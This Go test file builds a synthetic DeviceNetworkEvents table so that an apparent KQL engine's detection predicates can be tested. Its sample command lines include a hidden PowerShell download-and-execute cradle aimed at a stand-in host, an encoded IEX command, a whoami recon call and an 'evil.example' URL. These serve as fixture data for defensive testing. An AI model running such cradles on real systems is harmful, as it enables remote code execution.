package kql

import (
	"fmt"
	"math/rand/v2"
	"testing"
	"time"
)

// This file builds a synthetic DeviceNetworkEvents table for the tests and
// the benchmark. It is deliberately small and independent of the sample-data
// generator elsewhere in the project: its values are chosen to hit every
// branch of the notebook's predicates (temp folders in both cases, cmd and
// PowerShell command lines, look-alike terms such as "cmdline", parent ==
// child rows, private and public IPs, IPv6 and malformed addresses that fail
// the IPv4 regex, empty file names).

var dneSchema = []ColumnSchema{
	{"TenantId", TypeString}, {"TimeGenerated", TypeDateTime}, {"Timestamp", TypeDateTime},
	{"DeviceId", TypeString}, {"DeviceName", TypeString}, {"ActionType", TypeString},
	{"LocalIP", TypeString}, {"LocalPort", TypeInt}, {"LocalIPType", TypeString},
	{"RemoteIP", TypeString}, {"RemotePort", TypeInt}, {"RemoteIPType", TypeString},
	{"RemoteUrl", TypeString}, {"Protocol", TypeString},
	{"InitiatingProcessFileName", TypeString}, {"InitiatingProcessFolderPath", TypeString},
	{"InitiatingProcessCommandLine", TypeString}, {"InitiatingProcessParentFileName", TypeString},
	{"InitiatingProcessAccountName", TypeString}, {"InitiatingProcessAccountDomain", TypeString},
	{"InitiatingProcessSHA1", TypeString}, {"InitiatingProcessId", TypeLong},
	{"InitiatingProcessCreationTime", TypeDateTime}, {"ReportId", TypeLong}, {"Type", TypeString},
}

// Column indices used by the reference filters.
const (
	cTimeGenerated = 1
	cDeviceName    = 4
	cActionType    = 5
	cLocalIP       = 6
	cRemoteIP      = 9
	cRemotePort    = 10
	cRemoteIPType  = 11
	cFileName      = 14
	cFolderPath    = 15
	cCommandLine   = 16
	cParentName    = 17
	cAccountName   = 18
	cSHA1          = 20
)

var (
	dneFiles = []string{"chrome.exe", "msedge.exe", "teams.exe", "process1.exe", "process2.exe",
		"process3.exe", "svchost.exe", "cmd.exe", "powershell.exe", "", "OneDrive.exe", "Process1.exe"}
	dneFolders = []string{`C:\Program Files\Google\Chrome\Application`, `C:\Users\alice\AppData\Local\Temp`,
		`C:\Users\bob\AppData\Local\temp\x`, `C:\TEMP`, `C:\Windows\System32`, `C:\Users\carol\Downloads\temporary`,
		`D:\tempest`}
	dneCommands = []string{`"chrome.exe" --type=renderer`, `cmd.exe /c whoami`, `powershell -nop -w hidden -c iex(iwr http://x)`,
		`PowerShell.exe -enc SQBFAFgA`, `C:\tools\ps.exe -accepteula`, `cmdline-helper.exe --run`, `mycmd.exe`,
		`"C:\Windows\system32\CMD.EXE" /k`, `svchost.exe -k netsvcs`, ``, `process2.exe --update powershellish`}
	dneParents = []string{"explorer.exe", "winword.exe", "excel.exe", "services.exe", "process1.exe", "process2.exe", "cmd.exe"}
	dneRemote  = []string{"52.96.1.%d", "10.0.0.%d", "192.168.1.%d", "172.16.5.%d", "8.8.%d.8", "2001:db8::%d",
		"::ffff:1.2.3.%d", "1234.1.1.%d", "13.107.42.%d", "", "203.0.113.%d"}
	dneActions = []string{"ConnectionSuccess", "ConnectionSuccess", "ConnectionSuccess", "ConnectionFailed",
		"InboundConnectionAccepted", "connectionsuccess"}
	dneIPTypes = []string{"Public", "Public", "Private", "Loopback", "public", "FourToSixMapping"}
)

// newDeviceNetworkEvents returns n rows spread evenly at random over the
// span before now, deterministic for the seed.
func newDeviceNetworkEvents(tb testing.TB, n int, seed uint64, now time.Time, span time.Duration) *Table {
	tb.Helper()
	rng := rand.New(rand.NewPCG(seed, 42))
	t := NewTable("DeviceNetworkEvents", dneSchema)
	t.Grow(n)
	pick := func(s []string) string { return s[rng.IntN(len(s))] }
	row := make([]any, len(dneSchema))
	for i := 0; i < n; i++ {
		tg := now.Add(-time.Duration(rng.Int64N(int64(span)))).Truncate(time.Microsecond)
		file := pick(dneFiles)
		parent := pick(dneParents)
		if rng.IntN(5) == 0 {
			parent = file // parent == child rows for the != test
		}
		remote := pick(dneRemote)
		if remote != "" {
			remote = fmt.Sprintf(remote, rng.IntN(256))
		}
		dev := rng.IntN(50)
		row[0] = "tenant-1"
		row[1] = tg
		row[2] = tg.Add(-time.Second)
		row[3] = fmt.Sprintf("dev%04x", dev)
		row[4] = fmt.Sprintf("host-%02d.contoso.local", dev)
		row[5] = pick(dneActions)
		row[6] = fmt.Sprintf("10.1.%d.%d", dev, rng.IntN(256))
		row[7] = int64(49152 + rng.IntN(16000))
		row[8] = "Private"
		row[9] = remote
		row[10] = int64([]int{443, 80, 53, 8080, 22}[rng.IntN(5)])
		row[11] = pick(dneIPTypes)
		row[12] = pick([]string{"login.microsoftonline.com", "", "evil.example", "www.bing.com"})
		row[13] = pick([]string{"Tcp", "Udp"})
		row[14] = file
		row[15] = pick(dneFolders)
		row[16] = pick(dneCommands)
		row[17] = parent
		row[18] = pick([]string{"alice", "bob", "system", "local service"})
		row[19] = pick([]string{"contoso", "nt authority"})
		row[20] = fmt.Sprintf("%040x", rng.Uint64()%4096)
		row[21] = rng.Int64N(20000)
		row[22] = tg.Add(-time.Duration(rng.IntN(3600)) * time.Second)
		if rng.IntN(50) == 0 {
			row[22] = nil // a null datetime
		}
		row[23] = int64(i)
		row[24] = "DeviceNetworkEvents"
		if err := t.AppendRow(row...); err != nil {
			tb.Fatal(err)
		}
	}
	return t
}
